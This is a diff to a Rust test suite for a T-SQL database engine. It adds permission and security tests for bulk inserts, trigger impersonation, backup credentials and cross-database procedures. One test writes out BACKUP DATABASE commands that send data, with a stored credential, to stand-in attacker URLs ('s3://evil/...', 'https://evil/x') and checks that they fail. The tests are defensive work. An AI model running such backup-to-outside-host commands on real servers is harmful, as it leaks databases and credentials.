@@ -3,6 +3,10 @@
 mod common;
 
 use common::{Server, errors};
+use daruma_tsql::dml::bulk::BulkColumn;
+use daruma_tsql::error::Result;
+use daruma_tsql::session::BulkRows;
+use daruma_value::{DataType, Value};
 
 /// What the cases are about.
 const SETUP: &[&str] = &[
@@ -605,7 +609,7 @@ fn nobody_is_who_came_after_him() {
     as_login.done("EXECUTE AS LOGIN = 'tmp'");
     let mut as_user = server.connect_as("ann", "d");
     as_user.done("EXECUTE AS USER = 'fleeting'");
-    admin.done("USE d; DROP USER fleeting; DROP USER tmp; DROP LOGIN tmp");
+    admin.done("USE d; REVOKE IMPERSONATE ON USER::fleeting FROM ann; DROP USER fleeting; DROP USER tmp; DROP LOGIN tmp");
     admin.done("CREATE LOGIN after WITH PASSWORD = 'Daruma-2026'; CREATE USER after FOR LOGIN after; CREATE USER later WITHOUT LOGIN; \
                 GRANT SELECT ON dbo.t TO later, after; ALTER SERVER ROLE sysadmin ADD MEMBER after");
     for client in [&mut as_login, &mut as_user] {
@@ -664,5 +668,97 @@ fn nobody_is_renamed_to_what_every_database_has() {
             [15023],
             "{name}"
         );
+    }
+}
+
+/// One column `id`, one row.
+struct OneRow(Option<i32>);
+
+impl BulkRows for OneRow {
+    fn columns(&mut self) -> Result<Vec<BulkColumn>> {
+        Ok(vec![BulkColumn {
+            name: "id".to_string(),
+            data_type: DataType::Int,
+        }])
+    }
+
+    fn next(&mut self) -> Result<Option<Vec<Value>>> {
+        Ok(self.0.take().map(|n| vec![Value::Int(n)]))
+    }
+}
+
+#[test]
+fn rows_that_come_later_go_where_they_may_go_then() {
+    let server = prepared();
+    let mut admin = server.connect_to("d");
+    admin.done(
+        "ALTER AUTHORIZATION ON SCHEMA::app TO ann; GRANT CREATE SYNONYM, CREATE TABLE TO ann",
+    );
+    let mut ann = server.connect_as("ann", "d");
+    ann.done("CREATE TABLE app.x (id int)");
+    let mut load = server.connect_as("ann", "d");
+    for swap in [false, true] {
+        load.done("INSERT BULK app.x (id int)");
+        if swap {
+            ann.done("DROP TABLE app.x; CREATE SYNONYM app.x FOR dbo.u");
+        }
+        load.session
+            .execute_bulk(&mut OneRow(Some(77)), &mut load.sink);
+        let out = load.sink.take();
+        let expected: &[i32] = if swap { &[229] } else { &[] };
+        assert_eq!(errors(&out), expected, "{out}");
+    }
+    assert_eq!(
+        admin.scalar("SELECT COUNT(*) FROM dbo.u WHERE id = 77"),
+        "0"
+    );
+}
+
+#[test]
+fn a_trigger_runs_as_whom_it_says() {
+    let server = prepared();
+    let mut admin = server.connect_to("d");
+    admin.done("CREATE USER mild WITHOUT LOGIN");
+    admin.done("CREATE TRIGGER dbo.mild ON dbo.u WITH EXECUTE AS 'mild' AFTER INSERT AS SELECT USER_NAME(); EXEC ('SELECT id FROM dbo.t')");
+    let out = admin.run("INSERT dbo.u VALUES (5)");
+    assert!(out.contains("\nmild\n"), "{out}");
+    assert_eq!(errors(&out).first(), Some(&229), "{out}");
+    assert_eq!(admin.scalar("SELECT USER_NAME()"), "dbo");
+}
+
+#[test]
+fn a_credential_is_not_sent_where_it_does_not_belong() {
+    let server = prepared();
+    let mut admin = server.connect();
+    admin.done("CREATE CREDENTIAL [s3://good/bucket] WITH IDENTITY = 'S3 Access Key', SECRET = 'a:b'; CREATE CREDENTIAL plain WITH IDENTITY = 'i', SECRET = 's'");
+    admin.done("USE d; ALTER ROLE db_backupoperator ADD MEMBER ann");
+    let mut ann = server.connect_as("ann", "d");
+    for (credential, url) in [
+        ("s3://good/bucket", "s3://evil/bucket/x"),
+        ("s3://good/bucket", "s3://good/bucket2/x"),
+        ("plain", "https://evil/x"),
+    ] {
+        let out = ann.run(&format!(
+            "BACKUP DATABASE d TO URL = '{url}' WITH CREDENTIAL = '{credential}'"
+        ));
+        assert_eq!(errors(&out), [15151, 3013], "{out}");
+    }
+}
+
+#[test]
+fn a_system_procedure_of_another_database_asks_there() {
+    let server = prepared();
+    let mut admin = server.connect();
+    admin.done(
+        "USE other; CREATE USER ann FOR LOGIN ann; USE d; ALTER ROLE db_owner ADD MEMBER ann",
+    );
+    let mut ann = server.connect_as("ann", "d");
+    for call in [
+        "sp_updatestats",
+        "sp_autostats 'dbo.away', 'OFF'",
+        "sp_tableoption 'dbo.away', 'text in row', 'OFF'",
+    ] {
+        let out = ann.run(&format!("EXEC other.sys.{call}"));
+        assert_eq!(errors(&out).first(), Some(&15247), "{call}: {out}");
     }
 }
